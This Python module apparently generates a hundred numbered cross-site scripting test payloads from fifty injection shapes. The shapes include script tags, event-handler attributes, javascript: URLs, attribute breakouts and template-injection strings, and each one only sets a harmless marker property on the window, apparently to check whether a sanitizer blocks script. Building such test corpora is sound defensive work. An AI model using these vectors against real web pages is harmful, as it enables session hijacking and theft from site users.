"""A hundred ways to smuggle a script into a page, and what they would leave behind."""

from __future__ import annotations

MARK = "__nerloop_xss"
"""Every payload sets this property of the window, once it runs."""

RUN = f"window.{MARK}=1"

_SHAPES = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{mark}=1</script>'>",
    "<iframe src=javascript:parent.{mark}=1>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<marquee onstart={run}>x</marquee>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<math><mtext></mtext><script>{run}</script></math>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<a href=javascript:{run}>x</a>",
    '" autofocus onfocus="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    '" style="animation-name:x" onanimationstart="{run}',
    "`-{run}-`",
    "';{run};//",
    '";{run};//',
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{% raw %}}<script>{run}</script>{{% endraw %}}",
    "{{{{ caller.csrf }}}}<script>{run}</script>",
    "${{{run}}}",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "<base href=javascript:{run}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=javascript:{run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "\u202e<script>{run}</script>\u202c",
)


def payloads(count: int = 100) -> list[str]:
    """So many payloads, each with a number by which it is told from the others."""
    found = []
    for number in range(count):
        shape = _SHAPES[number % len(_SHAPES)]
        script = shape.format(run=RUN, mark=MARK)
        # the second round hides in the middle of words
        found.append(f"a{number} {script} b" if number >= len(_SHAPES) else f"{script}{number}")
    return found
